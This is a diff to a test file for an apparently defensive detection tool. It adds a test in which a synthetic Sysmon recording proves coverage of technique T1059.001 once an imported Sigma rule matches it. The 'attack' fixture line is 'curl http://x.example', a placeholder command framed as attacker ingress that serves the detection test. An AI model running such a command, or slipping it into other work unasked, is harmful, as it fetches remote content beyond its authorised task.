@@ -84,6 +84,45 @@ def test_telemetry_that_a_hunt_read_lets_rules_see_and_the_hunt_watches(town, tm
     assert "sysmon/process_creation" in {each["log_source"] for each in sources["here"]}
 
 
+def test_a_recording_proves_a_technique_only_if_a_rule_that_is_held_finds_something_in_it(
+    town, tmp_path
+):
+    town.found("aurelia")
+    take(town)
+    (tmp_path / "rule.yml").write_text(SIGMA)
+    args = ("--tlp", "CLEAR", "--source", "sigmahq")
+    town.do("aurelia", "import", str(tmp_path / "rule.yml"), *args, actor="amal")
+    event = {"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "Hostname": "pc"}
+    for name, line in (("silent", "notepad"), ("attack", "curl http://x.example")):
+        (tmp_path / f"{name}.jsonl").write_text(json.dumps(event | {"CommandLine": line}) + "\n")
+
+    silent = town.run(
+        "aurelia",
+        "defence",
+        "prove",
+        "T1059.001",
+        "--recording",
+        tmp_path / "silent.jsonl",
+        actor="amal",
+    )
+    assert silent.exit_code == 1
+    before = town.ask("aurelia", "defence", "technique", "T1059.001", actor="amal")
+    town.do(
+        "aurelia",
+        "defence",
+        "prove",
+        "T1059.001",
+        "--recording",
+        tmp_path / "attack.jsonl",
+        actor="amal",
+    )
+    after = town.ask("aurelia", "defence", "technique", "T1059.001", actor="amal")
+    assert (before["seen"], before["proofs"]) == ("blind", [])
+    assert after["seen"] == "proved"
+    assert "Ingress by a shell" in after["proofs"][0]["text"]
+    assert after["proofs"][0]["kind"] == "recording"
+
+
 @pytest.mark.parametrize(
     ("args", "code"),
     [
@@ -92,6 +131,7 @@ def test_telemetry_that_a_hunt_read_lets_rules_see_and_the_hunt_watches(town, tm
         (("priority", "Nobody At All", "1", "--because", "x"), "not-found"),
         (("assign", "T1059", "--due", "soon"), "invalid-input"),
         (("export", "cycle.pdf"), "usage"),
+        (("prove", "T1059.001"), "usage"),
     ],
 )
 def test_what_cannot_be_is_refused_in_every_language(town, args, code):
